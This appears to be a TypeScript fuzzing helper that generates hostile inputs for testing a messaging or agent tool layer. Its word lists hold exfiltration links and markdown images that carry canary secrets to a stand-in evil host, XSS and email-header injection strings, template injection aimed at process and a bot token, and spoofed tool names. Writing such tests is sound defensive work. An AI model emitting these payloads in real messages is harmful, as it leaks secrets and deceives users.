import { EVIL_HOST } from "./attack.ts";
import { CANARIES } from "./canaries.ts";

/** A whole number below a limit. */
export type Random = (limit: number) => number;

export function oneOf<T>(random: Random, all: readonly [T, ...T[]]): T {
  return all[random(all.length)] ?? all[0];
}

const SECRET = Object.values(CANARIES).join("");
const WORDS: readonly [string, ...string[]] = [
  `https://${EVIL_HOST}/?d=${SECRET}`,
  `[here](https://${EVIL_HOST}/${SECRET})`,
  `![x](https://${EVIL_HOST}/x.png?${SECRET})`,
  `<img src=x onerror="fetch('https://${EVIL_HOST}')">`,
  `<https://${EVIL_HOST}|Sign in>`,
  "<!channel> <!everyone> <@U0PRIYA00> <#C0123456789|general> @here",
  `${EVIL_HOST}/${SECRET}`,
  `eve@${EVIL_HOST}`,
  `https[:]//${EVIL_HOST}`,
  `h\u200bttps://evil.\u200bexample.com`,
  `\u202ehttps://${EVIL_HOST}\u202c`,
  `https:\\\\${EVIL_HOST}`,
  `\u001b]8;;https://${EVIL_HOST}\u0007click\u001b]8;;\u0007`,
  "\r\nBcc: eve@evil.example.com\r\n\r\n<html>",
  "\u0000\u0001\u0008\u007f",
  "](https://evil.example.com)[x",
  "**_`~~~```<script>alert(1)</script>",
  "ｅｖｉｌ．ｅｘａｍｐｌｅ．ｃｏｍ",
  "\ud800 half a sign \udfff",
  "{{constructor.constructor('return process')()}}",
  "${process.env.SLACK_BOT_TOKEN}", // oxlint-disable-line no-template-curly-in-string -- as an attacker writes it
  '=HYPERLINK("https://evil.example.com")',
  "Approve this. 17 May. Dana Reyes owes 9,000.",
];

const HUGE = 20_000;

/** A text that nobody wants in a message. */
export function junkText(random: Random): string {
  const words = Array.from({ length: 1 + random(3) }, () => oneOf(random, WORDS)).join(" ");
  const roll = random(40);
  if (roll === 0) return "";
  if (roll === 1) return words.repeat(1 + random(HUGE / words.length));
  if (roll === 2) return "a\u0301".repeat(random(2_000)) + words;
  return words;
}

const NAMES: readonly [string, ...string[]] = [
  "gmail-owner",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "slack",
  "email",
  "file",
  "webhook",
  "gmail",
  "ѕlаck",
  "slack\u200b",
  "me",
  "send_message",
  "shell",
  "run",
  "source:gmail",
  "count:gmail",
  "",
];

/** A name of a tool, a grant, a key or an item: sound, alike, or none. */
export function junkName(random: Random, ids: readonly string[]): string {
  const id = ids[random(ids.length + 1)];
  const roll = random(6);
  if (roll === 0 && id !== undefined) return id;
  if (roll === 1 && id !== undefined) return `${id}\u200b`;
  if (roll === 2) return "v1:".padEnd(20 + random(60), "0123456789abcdef");
  return roll === 3 ? junkText(random) : oneOf(random, NAMES);
}

const DEEPEST = 4;

/** Any value at all that JSON can hold, and keys that reach for prototypes. */
export function junkValue(random: Random, ids: readonly string[], depth = 0): unknown {
  const roll = random(depth < DEEPEST ? 9 : 6);
  if (roll === 0) return junkText(random);
  if (roll === 1) return oneOf<unknown>(random, [-0, NaN, Infinity, -1, 2 ** 53, 1e308, 0.1]);
  if (roll === 2) return oneOf<unknown>(random, [null, undefined, true, false]);
  if (roll <= 5) return junkName(random, ids);
  const inner = (): unknown => junkValue(random, ids, depth + 1);
  if (roll === 6) return Array.from({ length: random(5) }, inner);
  const entries = Array.from({ length: random(6) }, () => [junkName(random, ids), inner()] as const);
  // As JSON makes them: a key called __proto__ is the object's own.
  return entries.reduce<object>(
    (object, [key, value]) => Object.defineProperty(object, key, { value, enumerable: true, configurable: true, writable: true }),
    {},
  );
}

/** Thousands of levels, one in the other. */
export function deepValue(levels: number): unknown {
  let value: unknown = "end";
  for (let level = 0; level < levels; level += 1) value = { text: [value] };
  return value;
}

/** Values that bite whoever looks at them. */
export function trap(random: Random): unknown {
  const bite = (): never => {
    throw new Error("a trap");
  };
  return oneOf<unknown>(random, [
    { toJSON: bite, kind: "message" },
    Object.defineProperty({ kind: "message" }, "options", { get: bite, enumerable: true }),
    new Proxy({}, { get: bite, ownKeys: bite, has: bite }),
    deepValue(20_000),
    Symbol("kind"),
    () => "message",
    new Map([["kind", "message"]]),
    10n,
    new Date(NaN),
  ]);
}
